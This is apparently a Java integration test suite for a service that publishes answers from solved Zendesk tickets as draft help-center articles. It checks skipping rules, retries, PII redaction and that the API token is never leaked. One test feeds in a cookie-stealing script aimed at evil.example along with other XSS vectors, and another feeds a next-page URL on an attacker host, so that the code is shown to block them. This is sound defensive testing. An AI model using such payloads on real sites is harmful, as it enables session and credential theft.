package dev.responders.zendesk;

import dev.responders.shared.http.SaasHttp;
import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.absent;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.equalToJson;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.github.tomakehurst.wiremock.WireMockServer;
import dev.responders.shared.aws.AwsClients;
import dev.responders.shared.json.Json;
import dev.responders.shared.notify.Notifier;
import dev.responders.tools.account.NotificationInbox;
import dev.responders.tools.account.SampleEvents;
import dev.responders.tools.emulator.MotoExtension;
import dev.responders.tools.emulator.ZendeskDouble;
import dev.responders.tools.emulator.WireMockPeer;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import software.amazon.awssdk.services.sns.SnsClient;
import software.amazon.awssdk.services.sqs.SqsClient;

/**
 * The partner-event function against Zendesk (WireMock, every request checked) and AWS (moto: the secret in
 * Secrets Manager, the one-article-per-ticket records in SSM).
 */
@ExtendWith({MotoExtension.class, WireMockPeer.class})
class ZendeskArticlePublisherIT {

  static final String SOLVED = "match/agent-answer-on-solved-ticket.json";
  /** Exactly what the article's body must be for the double's ticket: question and answer, no note, no PII. */
  static final String EXPECTED_BODY = "<h2>Question</h2>\n"
      + "<p>Hi, I am [name removed]. I lost my phone: how do I reset two-factor? Call me on [phone removed] or write"
      + " to [email removed]</p>\n"
      + "<h2>Answer</h2>\n"
      + "<p>Hi [name removed], go to <strong>Settings &gt; Security</strong> and choose <em>Reset two-factor</em>."
      + " See <a href=\"https://help.acme.example/2fa\" rel=\"nofollow\">the guide</a>.</p>";

  private ZendeskDouble zendesk;
  private WireMockServer server;
  private PublisherFixture fixture;

  @BeforeEach
  void seed(WireMockServer server) {
    this.server = server;
    zendesk = new ZendeskDouble(server);
    fixture = new PublisherFixture(zendesk).withSecret();
  }

  @Test
  void publishesTheAnswersOfASolvedTaggedTicketAsOneDraftInTheConfiguredSection() {
    zendesk.solvedTicket();

    JsonNode result = fixture.bus(SOLVED);

    assertThat(result.get("status").asText()).isEqualTo("published");
    assertThat(result.get("article_id").asLong()).isEqualTo(ZendeskDouble.ARTICLE);
    assertThat(result.get("draft").asBoolean()).isTrue();
    server.verify(1, postRequestedFor(urlPathEqualTo(ZendeskDouble.articlesPath()))
        .withHeader("Authorization", equalTo(ZendeskDouble.AUTHORIZATION))
        .withHeader("Content-Type", equalTo("application/json"))
        .withRequestBody(equalToJson(Json.write(java.util.Map.of(
            "article", java.util.Map.of(
                "title", "Reset two-factor for [email removed]",
                "body", EXPECTED_BODY,
                "locale", "en-us",
                "permission_group_id", 360000222L,
                "user_segment_id", "__NULL__",
                "draft", true,
                "label_names", List.of(ZendeskDouble.LABEL)),
            "notify_subscribers", false)).replace("\"__NULL__\"", "null"))));
    server.verify(getRequestedFor(urlPathEqualTo("/api/v2/tickets/35436.json"))
        .withHeader("Authorization", equalTo(ZendeskDouble.AUTHORIZATION)));
    server.verify(getRequestedFor(urlPathEqualTo("/api/v2/users/7001.json")));
    assertThat(fixture.record(ZendeskDouble.TICKET)).hasValueSatisfying(record -> {
      assertThat(record.state()).isEqualTo(ArticleRecord.State.PUBLISHED);
      assertThat(record.articleId()).isEqualTo(ZendeskDouble.ARTICLE);
    });
  }

  @Test
  void aPrivateNoteIsNeverPublishedAndZendeskIsNotAsked() {
    JsonNode result = fixture.bus("no-match/private-note.json");

    assertThat(result.get("status").asText()).isEqualTo("skipped");
    assertThat(result.get("reason").asText()).isEqualTo("comment 900000001002 is a private note");
    assertThat(server.getAllServeEvents()).isEmpty();
    assertThat(fixture.record(ZendeskDouble.TICKET)).isEmpty();
  }

  @Test
  void aTicketLackingOneOfTheRequiredTagsIsIgnoredThoughTheRuleRoutedIt() {
    JsonNode result = fixture.bus("match/guide-tag-missing.json");

    assertThat(result.get("status").asText()).isEqualTo("skipped");
    assertThat(result.get("reason").asText())
        .isEqualTo("ticket 35436 lacks the required tag(s) [guide] (has [two_factor, web_widget])");
    assertThat(server.getAllServeEvents()).isEmpty();
  }

  @Test
  void aPartnerEventOfAnotherAccountIsNotThisDeploymentsToAct() {
    String event = SampleEvents.read(PublisherFixture.EVENTS, SOLVED).replace("\"123456789012\"", "\"210987654321\"");

    JsonNode result = fixture.busEvent(event);

    assertThat(result.get("status").asText()).isEqualTo("skipped");
    assertThat(result.get("reason").asText())
        .isEqualTo("event is from account 210987654321, this function acts in account 123456789012");
    assertThat(server.getAllServeEvents()).isEmpty();
  }

  @Test
  void aTicketThatIsNotSolvedIsIgnored() {
    JsonNode result = fixture.bus("no-match/ticket-not-solved.json");

    assertThat(result.get("status").asText()).isEqualTo("skipped");
    assertThat(result.get("reason").asText()).isEqualTo("ticket 35436 is pending, not solved");
    assertThat(server.getAllServeEvents()).isEmpty();
  }

  @Test
  void theTicketAsZendeskHasItNowDecidesWhenTheEventIsStale() {
    zendesk.solvedTicket();
    zendesk.ticket("open", List.of("guide", "web_widget"));

    JsonNode result = fixture.bus(SOLVED);

    assertThat(result.get("status").asText()).isEqualTo("skipped");
    assertThat(result.get("reason").asText()).isEqualTo("ticket 35436 is open, not solved (as Zendesk has it now)");
    server.verify(0, postRequestedFor(anyUrl()));
  }

  @Test
  void aTicketWithoutAPublicAgentAnswerIsIgnored() {
    zendesk.solvedTicket();
    zendesk.comments(List.of(ZendeskDouble.comment(1, ZendeskDouble.REQUESTER, true, "<p>Question?</p>"),
        ZendeskDouble.comment(2, ZendeskDouble.AGENT, false, "<p>private answer</p>")));

    JsonNode result = fixture.bus(SOLVED);

    assertThat(result.get("reason").asText()).isEqualTo("ticket 35436 has no public answer by an agent");
    server.verify(0, postRequestedFor(anyUrl()));
    assertThat(fixture.record(ZendeskDouble.TICKET)).isEmpty();
  }

  @Test
  void aRedeliveredEventLeavesTheArticleAloneAndAsksZendeskNothing() {
    zendesk.solvedTicket();
    fixture.bus(SOLVED);
    int requestsAfterFirst = server.getAllServeEvents().size();

    JsonNode again = fixture.bus(SOLVED);

    assertThat(again.get("status").asText()).isEqualTo("already-published");
    assertThat(again.get("article_id").asLong()).isEqualTo(ZendeskDouble.ARTICLE);
    assertThat(again.get("reason").asText()).isEqualTo("ticket 35436 already has article 4400001; left as it is");
    assertThat(server.getAllServeEvents()).hasSize(requestsAfterFirst);
    server.verify(1, postRequestedFor(urlPathEqualTo(ZendeskDouble.articlesPath())));
  }

  @Test
  void anArticleCreatedByAnAttemptThatDiedBeforeRecordingItIsFoundByItsLabel() {
    zendesk.solvedTicket();
    zendesk.articleLabelled(4400777);

    JsonNode result = fixture.bus(SOLVED);

    assertThat(result.get("status").asText()).isEqualTo("already-published");
    assertThat(result.get("article_id").asLong()).isEqualTo(4400777);
    server.verify(0, postRequestedFor(anyUrl()));
    assertThat(fixture.record(ZendeskDouble.TICKET)).hasValueSatisfying(record ->
        assertThat(record.articleId()).isEqualTo(4400777));
  }

  @Test
  void anotherDeliveryCreatingTheArticleNowMakesThisOneRetryLater() {
    zendesk.solvedTicket();
    fixture.seedRecord(ArticleRecord.creating(ZendeskDouble.TICKET, "webhook-event-1",
        PublisherFixture.NOW.minusSeconds(30)));

    assertThatThrownBy(() -> fixture.bus(SOLVED)).isInstanceOf(PublishInProgressException.class)
        .hasMessage("ticket 35436 is being published by delivery webhook-event-1; retry later");
    assertThat(server.getAllServeEvents()).isEmpty();
  }

  @Test
  void anExpiredClaimIsTakenOverAndTheArticleCreatedOnce() {
    zendesk.solvedTicket();
    fixture.seedRecord(ArticleRecord.creating(ZendeskDouble.TICKET, "crashed-delivery",
        PublisherFixture.NOW.minus(ArticleRecord.CLAIM_LEASE).minusSeconds(1)));

    JsonNode result = fixture.bus(SOLVED);

    assertThat(result.get("status").asText()).isEqualTo("published");
    server.verify(1, postRequestedFor(urlPathEqualTo(ZendeskDouble.articlesPath())));
  }

  @Test
  void rateLimitedByZendeskItWaitsWhatRetryAfterSaysThenPublishes() {
    zendesk.solvedTicket();
    zendesk.ticketFailsOnceWith(429, "2");

    JsonNode result = fixture.bus(SOLVED);

    assertThat(result.get("status").asText()).isEqualTo("published");
    assertThat(fixture.waits).containsExactly(Duration.ofSeconds(2));
    server.verify(2, getRequestedFor(urlPathEqualTo("/api/v2/tickets/35436.json")));
  }

  @Test
  void aRetryAfterLongerThanAnInvocationCanWaitFailsItForLambdaToRetryLater() {
    zendesk.solvedTicket();
    zendesk.ticketFailsOnceWith(429, "120");

    assertThatThrownBy(() -> fixture.bus(SOLVED)).isInstanceOf(ZendeskUnavailableException.class)
        .hasMessage("GET /api/v2/tickets/35436.json was rate limited by Zendesk (Retry-After 120 s) after 1 attempt(s)");
    assertThat(fixture.waits).isEmpty();
    server.verify(0, postRequestedFor(anyUrl()));
  }

  @Test
  void aServerErrorIsRetriedWithBackoffThenPublishes() {
    zendesk.solvedTicket();
    zendesk.ticketFailsOnceWith(500, null);

    JsonNode result = fixture.bus(SOLVED);

    assertThat(result.get("status").asText()).isEqualTo("published");
    assertThat(fixture.waits).containsExactly(SaasHttp.FIRST_BACKOFF);
    server.verify(2, getRequestedFor(urlPathEqualTo("/api/v2/tickets/35436.json")));
  }

  @Test
  void aServerErrorThatLastsFailsAfterFourAttemptsWithGrowingWaits() {
    zendesk.solvedTicket();
    server.stubFor(get(urlPathEqualTo("/api/v2/tickets/35436.json")).atPriority(1)
        .willReturn(aResponse().withStatus(503).withBody("{\"error\":\"Unavailable\"}")));

    assertThatThrownBy(() -> fixture.bus(SOLVED)).isInstanceOf(ZendeskUnavailableException.class)
        .hasMessage("GET /api/v2/tickets/35436.json failed with 503 after 4 attempt(s): Unavailable");
    assertThat(fixture.waits).containsExactly(Duration.ofMillis(250), Duration.ofMillis(500), Duration.ofMillis(1000));
  }

  @Test
  void aTicketZendeskDoesNotKnowIsReportedWithZendesksError() {
    server.stubFor(get(urlPathEqualTo("/api/v2/tickets/35436.json")).willReturn(aResponse().withStatus(404)
        .withHeader("Content-Type", "application/json")
        .withBody("{\"error\":\"RecordNotFound\",\"description\":\"Not found\"}")));

    assertThatThrownBy(() -> fixture.bus(SOLVED)).isInstanceOf(ZendeskApiException.class)
        .hasMessage("Zendesk answered 404 to GET /api/v2/tickets/35436.json: RecordNotFound: Not found");
    assertThat(fixture.waits).as("a 404 is not retried").isEmpty();
    assertThat(fixture.record(ZendeskDouble.TICKET)).isEmpty();
  }

  @Test
  void aFailedCreateIsNotRepeatedBlindlyAndTheRetryFinishesTheJob() {
    zendesk.solvedTicket();
    server.stubFor(post(urlPathEqualTo(ZendeskDouble.articlesPath())).atPriority(1)
        .inScenario("create").whenScenarioStateIs(com.github.tomakehurst.wiremock.stubbing.Scenario.STARTED)
        .willReturn(aResponse().withStatus(502)).willSetStateTo("up"));

    assertThatThrownBy(() -> fixture.bus(SOLVED)).isInstanceOf(ZendeskUnavailableException.class);
    server.verify(1, postRequestedFor(urlPathEqualTo(ZendeskDouble.articlesPath())));
    assertThat(fixture.record(ZendeskDouble.TICKET)).hasValueSatisfying(record ->
        assertThat(record.state()).isEqualTo(ArticleRecord.State.FAILED));
    assertThat(fixture.printed.toString()).contains("\"action\":\"zendesk:CreateArticle\"", "\"outcome\":\"failed\"");

    JsonNode retry = fixture.bus(SOLVED);

    assertThat(retry.get("status").asText()).isEqualTo("published");
    server.verify(2, postRequestedFor(urlPathEqualTo(ZendeskDouble.articlesPath())));
    server.verify(2, getRequestedFor(urlPathEqualTo("/api/v2/help_center/articles.json")));
  }

  @Test
  void commentsOnSeveralPagesAreAllRead() {
    zendesk.solvedTicket();
    String page2 = zendesk.baseUrl() + "/api/v2/tickets/35436/comments.json?include=users&page=2";
    server.stubFor(get(urlPathEqualTo("/api/v2/tickets/35436/comments.json")).atPriority(1)
        .withQueryParam("page", absent())
        .willReturn(okJson("{\"comments\":[" + ZendeskDouble.comment(1, ZendeskDouble.REQUESTER, true, "<p>Q</p>")
            + "],\"users\":[{\"id\":7001,\"role\":\"end-user\"}],\"next_page\":\"" + page2 + "\"}")));
    server.stubFor(get(urlPathEqualTo("/api/v2/tickets/35436/comments.json")).atPriority(1)
        .withQueryParam("page", equalTo("2"))
        .willReturn(okJson("{\"comments\":[" + ZendeskDouble.comment(2, ZendeskDouble.AGENT, true, "<p>A</p>")
            + "],\"users\":[{\"id\":20978392,\"role\":\"agent\"}],\"next_page\":null}")));

    fixture.bus(SOLVED);

    assertThat(publishedArticle().get("body").asText())
        .isEqualTo("<h2>Question</h2>\n<p>Q</p>\n<h2>Answer</h2>\n<p>A</p>");
  }

  @Test
  void aNextPageOnAnotherOriginIsNotFollowedSoTheTokenStaysWithZendesk() {
    zendesk.solvedTicket();
    server.stubFor(get(urlPathEqualTo("/api/v2/tickets/35436/comments.json")).atPriority(1)
        .willReturn(okJson("{\"comments\":[],\"users\":[],"
            + "\"next_page\":\"https://collector.evil.example/api/v2/tickets/35436/comments.json?page=2\"}")));

    assertThatThrownBy(() -> fixture.bus(SOLVED)).isInstanceOf(ZendeskApiException.class)
        .hasMessageContaining("Zendesk pointed the next page at another origin");
    server.verify(0, postRequestedFor(anyUrl()));
  }

  @Test
  void maliciousHtmlInAnAnswerIsNeutralized() {
    zendesk.solvedTicket();
    zendesk.comments(List.of(ZendeskDouble.comment(1, ZendeskDouble.AGENT, true, """
        <p onclick="steal()">Step one<script>fetch('https://evil.example/?c='+document.cookie)</script></p>
        <img src=x onerror="alert(1)"><iframe src="https://evil.example/frame"></iframe>
        <a href="javascript:alert(2)">click</a> <a href="data:text/html;base64,PHNjcmlwdD4=">data</a>
        <a href="https://help.acme.example/ok" onmouseover="x()" style="color:red">fine link</a>
        <style>body{display:none}</style><form action="https://evil.example"><input name="p"></form>
        <svg onload="alert(3)"><use href="#x"/></svg><object data="evil.swf"></object>""")));

    fixture.bus(SOLVED);

    String body = publishedArticle().get("body").asText();
    assertThat(body.toLowerCase()).doesNotContain("<script", "onclick", "onerror", "onmouseover", "onload",
        "<iframe", "javascript:", "data:", "<img", "<style", "style=", "<form", "<input", "<svg", "<object",
        "evil.example", "document.cookie");
    assertThat(body).contains("<p>Step one</p>", "click", "data",
        "<a href=\"https://help.acme.example/ok\" rel=\"nofollow\">fine link</a>");
  }

  @Test
  void emailsPhoneNumbersAndTheRequestersNameAreRedacted() {
    zendesk.solvedTicket();
    zendesk.comments(List.of(ZendeskDouble.comment(1, ZendeskDouble.AGENT, true,
        "<p>Thanks JANE DOE. We wrote to jane&#64;example.com and j.doe+billing@mail.example.co.uk, called"
            + " 020 7946 0958 and +44 20 7946 0958, and (415) 555-0134. Order 2026-11-30 stays.</p>")));

    fixture.bus(SOLVED);

    String body = publishedArticle().get("body").asText();
    assertThat(body).isEqualTo("<h2>Answer</h2>\n<p>Thanks [name removed]. We wrote to [email removed] and"
        + " [email removed], called [phone removed] and [phone removed], and [phone removed]. Order 2026-11-30"
        + " stays.</p>");
    assertThat(publishedArticle().get("title").asText()).isEqualTo("Reset two-factor for [email removed]");
  }

  @Test
  void theApiTokenAppearsInNoOutputOfASuccessOrAFailure() {
    zendesk.solvedTicket();
    fixture.bus(SOLVED);
    server.stubFor(get(urlPathEqualTo("/api/v2/tickets/35436.json")).atPriority(1).willReturn(aResponse()
        .withStatus(401).withBody("{\"error\":\"Couldn't authenticate you\"}")));
    fixture.seedRecord(new ArticleRecord(ZendeskDouble.TICKET, ArticleRecord.State.FAILED, "x",
        PublisherFixture.NOW, null, null, false));
    assertThatThrownBy(() -> fixture.bus(SOLVED)).isInstanceOf(ZendeskApiException.class);

    String said = fixture.everythingSaid();
    assertThat(said).contains("zendesk:CreateArticle", "Couldn't authenticate you");
    String base64Credentials = ZendeskDouble.AUTHORIZATION.substring("Basic ".length());
    assertThat(said).doesNotContain(ZendeskDouble.TOKEN, base64Credentials, PublisherFixture.SIGNING_SECRET);
    server.verify(anyRequestedFor(anyUrl()).withHeader("Authorization", equalTo(ZendeskDouble.AUTHORIZATION)));
  }

  @Test
  void theRespondersAreToldWhereTheDraftIsOnceAndOnlyOnce() {
    zendesk.solvedTicket();
    NotificationInbox inbox = NotificationInbox.create(AwsClients.build(SnsClient.builder()),
        AwsClients.build(SqsClient.builder()), "responder-notifications");
    fixture.notifier = new Notifier(AwsClients.build(SnsClient.builder()), inbox.topicArn());

    JsonNode result = fixture.bus(SOLVED);
    JsonNode again = fixture.bus(SOLVED);

    assertThat(result.get("notification").asText()).isEqualTo("sent");
    assertThat(again.has("notification")).as("nothing new to tell").isFalse();
    List<JsonNode> notifications = inbox.take();
    assertThat(notifications).singleElement().satisfies(n -> {
      assertThat(n.get("Subject").asText()).isEqualTo("Help-center draft to review from Zendesk ticket 35436");
      assertThat(n.get("MessageAttributes").get("outcome").get("Value").asText()).isEqualTo("draft-created");
      assertThat(n.get("MessageAttributes").get("handler").get("Value").asText())
          .isEqualTo("zendesk-article-publisher");
      JsonNode message = Json.read(n.get("Message").asText(), JsonNode.class);
      assertThat(message.get("article_url").asText()).isEqualTo(zendesk.articleUrl(ZendeskDouble.ARTICLE));
      assertThat(n.get("Message").asText()).doesNotContain("jane", "Jane", "two-factor");
    });
    assertThat(fixture.record(ZendeskDouble.TICKET)).hasValueSatisfying(r -> assertThat(r.notified()).isTrue());
  }

  private JsonNode publishedArticle() {
    var posts = server.findAll(postRequestedFor(urlPathEqualTo(ZendeskDouble.articlesPath())));
    assertThat(posts).hasSize(1);
    return Json.read(posts.get(0).getBodyAsString(), JsonNode.class).get("article");
  }
}
